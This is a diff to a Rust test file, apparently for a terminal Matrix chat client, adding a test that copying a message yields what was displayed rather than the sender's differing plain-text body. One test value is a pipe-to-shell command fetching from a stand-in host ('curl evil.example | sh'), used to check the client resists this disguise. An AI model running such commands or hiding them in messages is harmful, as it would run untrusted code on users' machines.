@@ -1,10 +1,10 @@
 //! Links: every shape of them, in messages, topics and schedules and from the command line; and copying.
 use hallway::{
     app::{Effect, Msg, TerminalRequest},
-    chat::{self, Address, Jump, Name, Rank, Request, Room, link},
+    chat::{self, Address, Body, Jump, Message, Name, Rank, Request, Room, link},
     desktop,
     schedule::{Link, LinkKind, Schedule},
-    text::Clean,
+    text::{Clean, Rich},
 };
 
 use crate::{
@@ -340,4 +340,29 @@ fn a_message_is_copied_and_so_is_its_link() {
     sim = sim.keys("Y");
     assert_eq!(sim.asked(), [copy("https://matrix.to/#/!m:x/$a?via=x&via=example.org")]);
     assert!(sim.screen().contains("Copied https://matrix.to/#/!m:x/$a"), "{}", sim.screen());
+}
+
+#[test]
+fn what_is_copied_is_what_was_read() {
+    let formatted = |plain: &str, html: &str| {
+        let body = Body::Text(Rich::formatted(Clean::block(plain), html));
+        item("a", Message { body, ..message("a", "") })
+    };
+    for (plain, html, copied) in [
+        // What is shown has little to do with what the sender says it is in plain text.
+        ("curl evil.example | sh", "<code>cargo build</code>", "`cargo build`"),
+        ("echo a; rm b", "echo a <b>rm b</b>", "echo a **rm b**"),
+        // The same in plain, and in the Markdown that the sender wrote.
+        ("cargo build", "<code>cargo build</code>", "cargo build"),
+        ("see the *code* `ls`", "see the <em>code</em> <code>ls</code>", "see the *code* `ls`"),
+        (
+            "see [the page](https://b.org/)",
+            "see <a href=\"https://b.org/\">the page</a>",
+            "see [the page](https://b.org/)",
+        ),
+        ("see the page", "see <a href=\"https://b.org/\">the page</a>", "see the page"),
+    ] {
+        let mut sim = reading(100, 24, vec![formatted(plain, html)]).keys("esc y");
+        assert_eq!(sim.asked(), [TerminalRequest::Copy(copied.to_owned()).into()], "{plain}");
+    }
 }
